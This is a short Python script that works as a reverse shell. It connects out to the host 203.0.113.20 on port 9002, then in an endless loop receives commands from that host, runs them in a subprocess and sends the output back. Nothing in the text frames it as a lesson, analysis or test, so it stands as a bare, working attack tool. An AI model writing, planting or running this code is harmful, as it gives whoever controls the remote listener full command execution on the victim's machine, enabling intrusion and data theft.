import socket
import subprocess

link = socket.socket()
link.connect(('203.0.113.20', 9002))
while True:
    order = link.recv(1024).decode()
    link.send(subprocess.getoutput(order).encode())
